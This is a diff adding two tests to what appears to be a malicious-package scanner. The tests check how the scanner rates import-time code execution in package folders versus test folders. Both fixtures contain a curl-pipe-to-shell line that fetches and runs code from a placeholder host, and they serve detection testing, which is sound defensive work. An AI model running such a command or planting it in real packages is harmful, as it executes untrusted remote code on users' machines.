@@ -307,3 +307,19 @@ def test_a_variable_of_the_same_name_in_another_function_is_another_file(tmp_pat
     )
     found = scan(tmp_path, {"tool/index.py": module}, TargetKind.WHEEL)
     assert worst(found, "code-dropped-exec") is Severity.INFO
+
+
+# --- only real test paths lower a severity ----------------------------------------------------
+
+
+def test_a_package_folder_whose_name_is_no_identifier_is_package_code(tmp_path: Path) -> None:
+    # `package_dir={'pkg_utils': 'pkg-utils'}` installs it; its code is not a test's.
+    module = "import os\nos.system('curl https://canary.invalid/x | sh')\n"
+    found = scan(tmp_path, {"pkg-1.0/pkg-utils/__init__.py": module, "pkg-1.0/setup.py": "x = 1\n"})
+    assert worst(found, "code-exec-at-import") is Severity.CRITICAL
+
+
+def test_real_test_folders_still_lower_a_severity(tmp_path: Path) -> None:
+    module = "import os\nos.system('curl https://canary.invalid/x | sh')\n"
+    found = scan(tmp_path, {"pkg-1.0/tests/test_net.py": module})
+    assert worst(found) <= Severity.MEDIUM
